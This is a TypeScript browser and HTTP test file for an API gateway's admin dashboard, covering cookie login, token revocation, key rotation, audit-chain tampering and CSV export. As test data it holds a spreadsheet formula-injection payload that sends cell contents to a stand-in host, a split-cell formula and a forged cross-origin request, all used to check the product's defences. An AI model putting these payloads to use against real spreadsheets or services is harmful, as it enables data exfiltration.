import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import type { Browser, Page } from 'playwright-core';
import { Agent, request } from 'undici';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ADMIN_KEY, adminCall } from '../support/admin.js';
import { hasChromium, launchChromium } from '../support/chromium.js';
import { type FakeProvider, startFakeProvider } from '../support/fake-providers/server.js';
import { chatStatus, startTestGateway, type TestGateway } from '../support/gateway.js';
import { CLIENT_KEY, PROVIDER_KEY } from '../support/setup.js';

const FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"ok")';
/** Harmless in a comma-separated file; opened where `;` separates cells, its second cell is a formula. */
const SPLIT_FORMULA = 'bob;=1+1';
const ARTIFACTS = join(import.meta.dirname, '../../test-artifacts/dashboard');
const NEW_PROVIDER_KEY = 'sk-dashboard-rotated-key-0123456789abcdef';
const PAGES = ['overview', 'keys', 'tokens', 'sessions', 'usage', 'audit', 'alerts'] as const;
const TITLES: Record<(typeof PAGES)[number], string> = {
  overview: 'Overview',
  keys: 'Providers and keys',
  tokens: 'Tokens',
  sessions: 'Sessions',
  usage: 'Usage and cost',
  audit: 'Audit log',
  alerts: 'Alerts',
};

describe.skipIf(!hasChromium())(
  'the admin dashboard in Chromium (needs chromium: apt-get install chromium)',
  () => {
    let browser: Browser;
    let fake: FakeProvider;
    let kw: TestGateway;
    let dataDir: string;
    let origin: string;
    /** Console errors and CSP refusals of every page, which must stay empty. */
    const problems: string[] = [];

    beforeAll(async () => {
      mkdirSync(ARTIFACTS, { recursive: true });
      dataDir = mkdtempSync(join(tmpdir(), 'keyward-dashboard-'));
      [browser, fake] = await Promise.all([
        launchChromium(),
        startFakeProvider('openai', { keys: [PROVIDER_KEY, NEW_PROVIDER_KEY] }),
      ]);
      kw = await startTestGateway(
        {
          auth: { apiKeys: { env: 'KEYWARD_API_KEY' } },
          providers: [{ id: 'oa', type: 'openai', baseUrl: fake.baseUrl, keys: { store: true } }],
          models: [{ name: 'fast', provider: 'oa', model: 'gpt-4o-mini' }],
          alerts: { authFailuresPerMinute: 3 },
        },
        { KEYWARD_API_KEY: CLIENT_KEY, KEYWARD_ADMIN_KEY: ADMIN_KEY },
        dataDir,
      );
      // `localhost` is a secure context to Chromium, so it keeps the `__Host-` (Secure) cookie over http.
      origin = kw.adminUrl.replace('127.0.0.1', 'localhost');
      expect(
        (await adminCall(kw.adminUrl, 'POST', '/admin/keys', { provider: 'oa', value: PROVIDER_KEY })).status,
      ).toBe(201);
      // The running gateway picks up the stored key within a second.
      for (let i = 0; i < 100 && (await chatStatus(kw, CLIENT_KEY)) !== 200; i++)
        await new Promise((r) => setTimeout(r, 50));
      for (let i = 0; i < 4; i++) await chatStatus(kw, CLIENT_KEY);
      // A burst of wrong credentials raises an alert; a login makes a browser session to list.
      for (let i = 0; i < 5; i++) await chatStatus(kw, 'kw_wrong');
      const code = await adminCall(kw.adminUrl, 'POST', '/admin/sessions', { userId: 'ada' });
      const exchanged = await request(`${kw.dataUrl}/auth/session`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' },
        body: JSON.stringify({ code: code.json.code }),
      });
      await exchanged.body.dump();
      expect(exchanged.statusCode).toBe(200);
      // A user id a spreadsheet would run as a formula, as a back end signing users in may name one.
      const formula = await adminCall(kw.adminUrl, 'POST', '/admin/tokens', {
        name: 'sheet',
        userId: FORMULA,
      });
      expect(await chatStatus(kw, formula.json.token)).toBe(200);
      const split = await adminCall(kw.adminUrl, 'POST', '/admin/tokens', {
        name: 'split',
        userId: SPLIT_FORMULA,
      });
      expect(await chatStatus(kw, split.json.token)).toBe(200);
    });
    afterAll(async () => {
      await browser?.close();
      await kw?.close();
      await fake?.close();
    });

    beforeEach(() => {
      problems.length = 0;
    });

    async function newPage(width: number): Promise<Page> {
      const context = await browser.newContext({ viewport: { width, height: 900 }, acceptDownloads: true });
      const page = await context.newPage();
      page.on('console', (message) => {
        if (message.type() === 'error') problems.push(`${width}px console: ${message.text()}`);
      });
      page.on('pageerror', (error) => problems.push(`${width}px page: ${error.message}`));
      page.on('response', (res) => {
        if (res.status() >= 400)
          problems.push(`${width}px ${res.status()} ${res.request().method()} ${res.url()}`);
      });
      return page;
    }

    async function login(page: Page, credential = ADMIN_KEY): Promise<void> {
      await page.goto(`${origin}/admin/ui/`);
      await page.getByLabel('Admin key or admin token').fill(credential);
      await page.getByRole('button', { name: 'Log in' }).click();
    }

    async function open(page: Page, name: (typeof PAGES)[number]): Promise<void> {
      await page.goto(`${origin}/admin/ui/#/${name}`);
      await page.getByRole('heading', { level: 1, name: TITLES[name] }).waitFor();
    }

    it('refuses a wrong credential, then logs in with the admin key into an HttpOnly, SameSite=Strict cookie', async () => {
      const page = await newPage(1280);
      await login(page, 'not-the-admin-key');
      await expect(page.getByRole('alert').textContent()).resolves.toContain('Admin credential required');
      problems.length = 0; // the 401 of that attempt is the browser's console error, on purpose
      await login(page);
      await page.getByRole('navigation', { name: 'Dashboard' }).waitFor();
      const [cookie] = await page.context().cookies();
      expect(cookie).toMatchObject({
        name: '__Host-keyward_admin',
        httpOnly: true,
        secure: true,
        sameSite: 'Strict',
        path: '/',
      });
      await page.context().close();
    });

    it('renders every page with its data at 1280 px and 390 px, with no console error, and writes screenshots', async () => {
      for (const width of [1280, 390]) {
        const page = await newPage(width);
        await login(page);
        for (const name of PAGES) {
          await open(page, name);
          if (name === 'overview') await page.getByRole('cell', { name: 'oa' }).waitFor();
          if (name === 'overview')
            await page
              .getByRole('img', { name: 'Requests per second by provider, last hour' })
              .getByText('oa')
              .waitFor();
          if (name === 'sessions') await page.getByRole('cell', { name: 'ada' }).waitFor();
          if (name === 'alerts') await page.getByRole('cell', { name: 'auth_failure_burst' }).waitFor();
          if (name === 'keys') await page.getByRole('cell', { name: 'oa' }).first().waitFor();
          if (name === 'usage')
            await page
              .getByRole('cell', { name: 'fast' })
              .or(page.getByRole('cell', { name: /^\d{4}-/ }))
              .first()
              .waitFor();
          if (name === 'audit') await page.getByRole('cell', { name: 'key.added' }).first().waitFor();
          await page.screenshot({ path: join(ARTIFACTS, `${name}-${width}.png`), fullPage: true });
        }
        await page.context().close();
      }
      expect(problems).toEqual([]);
    });

    it('creates a token shown once, sees it used, then revokes it', async () => {
      const page = await newPage(1280);
      await login(page);
      await open(page, 'tokens');
      await page.getByLabel('Name').fill('dash-made');
      await page.getByLabel('Requests per minute').fill('50');
      await page.getByLabel('Budget (USD)').fill('2');
      await page.getByLabel('Most output tokens per request').fill('500');
      await page.getByLabel('IP ranges').fill('127.0.0.0/8');
      await page.getByRole('button', { name: 'Create token' }).click();
      const token = (await page.locator('#new-token').textContent()) ?? '';
      expect(token).toMatch(/^kw_/);
      expect(await chatStatus(kw, token)).toBe(200);
      const made = (await adminCall(kw.adminUrl, 'GET', '/admin/tokens')).json.tokens.find(
        (t: { name: string }) => t.name === 'dash-made',
      );
      expect(made).toMatchObject({
        limits: { rpm: 50 },
        budget: { usd: 2, period: 'month' },
        maxTokens: 500,
        ipAllowlist: ['127.0.0.0/8'],
      });
      const row = page.getByRole('row').filter({ hasText: 'dash-made' });
      await row.getByRole('button', { name: 'Usage' }).click();
      await expect.poll(() => page.getByRole('heading', { name: /^Usage of / }).isVisible()).toBe(true);
      await page.getByRole('cell', { name: new Date().toISOString().slice(0, 10) }).waitFor();
      await row.getByRole('button', { name: 'Revoke' }).click();
      await row.getByRole('cell', { name: 'revoked' }).waitFor();
      expect(await chatStatus(kw, token)).toBe(401);
      // The secret is not on the page once dismissed, and never in a listing.
      await page.getByRole('button', { name: 'Done' }).click();
      expect(await page.content()).not.toContain(token);
      await page.context().close();
      expect(problems).toEqual([]);
    });

    it('rotates a provider key and shows the pool change', async () => {
      const page = await newPage(1280);
      await login(page);
      await open(page, 'keys');
      await page.getByLabel('Provider').fill('oa');
      await page.getByLabel('New key').fill(NEW_PROVIDER_KEY);
      await page.getByRole('button', { name: 'Rotate (old keys disabled)' }).click();
      await expect
        .poll(async () => (await page.getByRole('cell', { name: 'disabled' }).count()) > 0, { timeout: 5000 })
        .toBe(true);
      expect(await page.content()).not.toContain(NEW_PROVIDER_KEY);
      const keys = await adminCall(kw.adminUrl, 'GET', '/admin/keys');
      expect(keys.json.stored.map((k: { status: string }) => k.status).sort()).toEqual([
        'active',
        'disabled',
      ]);
      expect(await chatStatus(kw, CLIENT_KEY)).toBe(200);
      expect(fake.requests.at(-1)!.headers.authorization).toBe(`Bearer ${NEW_PROVIDER_KEY}`);
      const pool = (await adminCall(kw.adminUrl, 'GET', '/admin/keys')).json.providers[0].keys;
      expect(pool).toEqual([
        expect.objectContaining({ state: 'active', requests: 1, lastFailure: null, ageDays: 0 }),
      ]);
      await page.context().close();
      expect(problems).toEqual([]);
    });

    it('verifies the audit chain, and reports where a tampered store breaks it', async () => {
      const page = await newPage(1280);
      await login(page);
      await open(page, 'audit');
      await page.getByRole('button', { name: 'Verify chain' }).click();
      await expect(page.locator('#audit-verdict').textContent()).resolves.toMatch(
        /^Chain intact: \d+ records/,
      );
      const db = new Database(join(dataDir, 'keyward.db'));
      db.prepare("UPDATE audit SET actor = 'mallory' WHERE seq = 1").run();
      db.close();
      await page.getByRole('button', { name: 'Verify chain' }).click();
      await expect
        .poll(() => page.locator('#audit-verdict').textContent())
        .toMatch(/^Chain BROKEN at seq 1 \(edited\)/);
      await page.context().close();
    });

    it('exports usage as CSV', async () => {
      const page = await newPage(1280);
      await login(page);
      await open(page, 'usage');
      await page
        .getByRole('cell', { name: /^\d{4}-\d{2}-\d{2}$/ })
        .first()
        .waitFor();
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export CSV' }).click(),
      ]);
      const csv = readFileSync((await download.path())!, 'utf8');
      expect(csv.split('\n')[0]).toBe(
        'group,requests,inputTokens,outputTokens,cachedTokens,costMicros,costUsd',
      );
      expect(csv).toMatch(/\n\d{4}-\d{2}-\d{2},\d+,/);

      await page.getByLabel('Group by').selectOption('user');
      await page.getByRole('cell', { name: FORMULA }).waitFor();
      const [byUser] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export CSV' }).click(),
      ]);
      const users = readFileSync((await byUser.path())!, 'utf8');
      expect(users).toContain(`\n"'${FORMULA.replaceAll('"', '""')}",1,`);
      expect(users).toContain(`\n"${SPLIT_FORMULA}",1,`);
      await page.context().close();
      expect(problems).toEqual([]);
    });

    it('logs out: the cookie no longer opens the API', async () => {
      const page = await newPage(1280);
      await login(page);
      await page.getByRole('navigation', { name: 'Dashboard' }).waitFor();
      const [cookie] = await page.context().cookies();
      await page.getByRole('button', { name: 'Log out' }).click();
      await page.getByLabel('Admin key or admin token').waitFor();
      const after = await request(`${kw.adminUrl}/admin/tokens`, {
        headers: { cookie: `${cookie!.name}=${cookie!.value}` },
      });
      await after.body.dump();
      expect(after.statusCode).toBe(401);
      await page.context().close();
    });
  },
);

describe('the dashboard over plain HTTP', () => {
  let kw: TestGateway;
  let dataDir: string;
  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'keyward-dashboard-http-'));
    kw = await startTestGateway({}, { KEYWARD_ADMIN_KEY: ADMIN_KEY }, dataDir);
  });
  afterAll(() => kw?.close());

  const login = async () => {
    const res = await request(`${kw.adminUrl}/admin/ui/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ credential: ADMIN_KEY }),
    });
    await res.body.dump();
    return String(res.headers['set-cookie']).split(';')[0]!;
  };

  it('serves its page with a strict CSP and no inline script', async () => {
    const res = await request(`${kw.adminUrl}/admin/ui/`);
    const html = await res.body.text();
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-security-policy']).toContain("script-src 'self'");
    expect(res.headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(html).not.toMatch(/<script>|<script [^>]*>[^<]/);
    expect(html).not.toContain(ADMIN_KEY);
  });

  it("keeps a login in the store as its cookie's SHA-256 only: a copy of the database opens no dashboard", async () => {
    const cookie = await login();
    const id = cookie.split('=')[1]!;
    const db = new Database(join(dataDir, 'keyward.db'), { readonly: true });
    try {
      const hashes = db.prepare('SELECT hash FROM admin_sessions').pluck().all();
      expect(hashes).toContain(createHash('sha256').update(id).digest('hex'));
    } finally {
      db.close();
    }
    for (const file of readdirSync(dataDir).filter((name) => name.startsWith('keyward.db')))
      expect(readFileSync(join(dataDir, file)).includes(id)).toBe(false);
  });

  it('refuses a cookie-authenticated change from another origin or without one, and lets GETs through', async () => {
    const cookie = await login();
    expect(cookie).toMatch(/^__Host-keyward_admin=/);
    const read = await request(`${kw.adminUrl}/admin/tokens`, { headers: { cookie } });
    await read.body.dump();
    expect(read.statusCode).toBe(200);
    const host = new URL(kw.adminUrl).host;
    for (const headers of [{ origin: 'https://evil.example' }, {}]) {
      const res = await request(`${kw.adminUrl}/admin/tokens`, {
        method: 'POST',
        headers: { cookie, 'content-type': 'application/json', ...headers },
        body: JSON.stringify({ name: 'csrf' }),
      });
      // biome-ignore lint/suspicious/noExplicitAny: JSON answers are read field by field
      const { error } = (await res.body.json()) as any;
      expect(res.statusCode).toBe(403);
      if (headers.origin) {
        // The fix is named: the dashboard's own origin, not the data plane's CORS list.
        expect(error.message).toBe(
          `Dashboard changes must come from the dashboard's own origin (http://${host} or https://${host})`,
        );
      }
    }
    // Behind a proxy that ends TLS, the page's origin is https on the same host.
    const proxied = await request(`${kw.adminUrl}/admin/tokens`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/json', origin: `https://${host}` },
      body: JSON.stringify({ name: 'behind-a-proxy' }),
    });
    await proxied.body.dump();
    expect(proxied.statusCode).toBe(201);
    const same = await request(`${kw.adminUrl}/admin/tokens`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' },
      body: JSON.stringify({ name: 'same-origin' }),
    });
    await same.body.dump();
    expect(same.statusCode).toBe(201);
  });

  it('lists audit records within a time range', async () => {
    await adminCall(kw.adminUrl, 'POST', '/admin/tokens', { name: 'timed' });
    const all = (await adminCall(kw.adminUrl, 'GET', '/admin/audit')).json.records as Array<{ at: number }>;
    expect(all.length).toBeGreaterThan(0);
    const first = all[0]!.at;
    const until = (await adminCall(kw.adminUrl, 'GET', `/admin/audit?until=${first}`)).json.records;
    expect(until).toEqual([]);
    const since = (await adminCall(kw.adminUrl, 'GET', `/admin/audit?since=${first}`)).json.records;
    expect(since).toHaveLength(all.length);
    const future = (await adminCall(kw.adminUrl, 'GET', `/admin/audit?since=${Date.now() + 60_000}`)).json
      .records;
    expect(future).toEqual([]);
  });

  it("ends an admin token's dashboard session when the token is revoked, and holds it to tokens", async () => {
    const minted = await adminCall(kw.adminUrl, 'POST', '/admin/tokens', { name: 'ops', scopes: ['admin'] });
    const res = await request(`${kw.adminUrl}/admin/ui/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ credential: minted.json.token }),
    });
    await res.body.dump();
    const cookie = String(res.headers['set-cookie']).split(';')[0]!;
    const call = async (path: string) => {
      const answer = await request(`${kw.adminUrl}${path}`, { headers: { cookie } });
      await answer.body.dump();
      return answer.statusCode;
    };
    expect(await call('/admin/tokens')).toBe(200);
    expect(await call('/admin/keys')).toBe(403);
    await adminCall(kw.adminUrl, 'DELETE', `/admin/tokens/${minted.json.id}`);
    expect(await call('/admin/tokens')).toBe(401);
  });

  it("holds a token's dashboard login to the token's IP allowlist on every request, not only at login", async () => {
    const minted = await adminCall(kw.adminUrl, 'POST', '/admin/tokens', {
      name: 'ops-near',
      scopes: ['admin'],
      ipAllowlist: ['127.0.0.2/32'],
    });
    const near = new Agent({ localAddress: '127.0.0.2' });
    try {
      const res = await request(`${kw.adminUrl}/admin/ui/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ credential: minted.json.token }),
        dispatcher: near,
      });
      await res.body.dump();
      expect(res.statusCode).toBe(200);
      const cookie = String(res.headers['set-cookie']).split(';')[0]!;
      const call = async (headers: Record<string, string>, dispatcher?: Agent) => {
        const answer = await request(`${kw.adminUrl}/admin/tokens`, {
          headers,
          ...(dispatcher && { dispatcher }),
        });
        return {
          status: answer.statusCode,
          json: (await answer.body.json()) as { error?: { code: string } },
        };
      };
      expect((await call({ cookie }, near)).status).toBe(200);
      // The cookie, carried elsewhere, is refused as the token itself is, and says why.
      const far = await call({ cookie });
      expect(far.status).toBe(403);
      expect(far.json.error?.code).toBe('ip_not_allowed');
      const bearer = await call({ authorization: `Bearer ${minted.json.token}` });
      expect(bearer.status).toBe(403);
      expect(bearer.json.error?.code).toBe('ip_not_allowed');
    } finally {
      await near.close();
    }
  });

  it("keeps the admin key's login however many times an admin token logs in", async () => {
    const operator = await login();
    const minted = await adminCall(kw.adminUrl, 'POST', '/admin/tokens', {
      name: 'ops-many',
      scopes: ['admin'],
    });
    const tokenLogin = async () => {
      const res = await request(`${kw.adminUrl}/admin/ui/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ credential: minted.json.token }),
      });
      await res.body.dump();
      return String(res.headers['set-cookie']).split(';')[0]!;
    };
    const status = async (cookie: string) => {
      const answer = await request(`${kw.adminUrl}/admin/tokens`, { headers: { cookie } });
      await answer.body.dump();
      return answer.statusCode;
    };
    const first = await tokenLogin();
    for (let i = 0; i < 1_000; i++) await tokenLogin();
    expect(await status(operator)).toBe(200);
    // The token's own oldest logins made room.
    expect(await status(first)).toBe(401);
  });

  it('keeps an admin-key login across a restart, and ends it when the admin key changes', async () => {
    const cookie = await login();
    const keys = async () => {
      const answer = await request(`${kw.adminUrl}/admin/keys`, { headers: { cookie } });
      await answer.body.dump();
      return answer.statusCode;
    };
    expect(await keys()).toBe(200);
    await kw.close();
    kw = await startTestGateway({}, { KEYWARD_ADMIN_KEY: ADMIN_KEY }, dataDir);
    expect(await keys()).toBe(200);
    await kw.close();
    kw = await startTestGateway({}, { KEYWARD_ADMIN_KEY: `${ADMIN_KEY}-rotated` }, dataDir);
    expect(await keys()).toBe(401);
  });
});
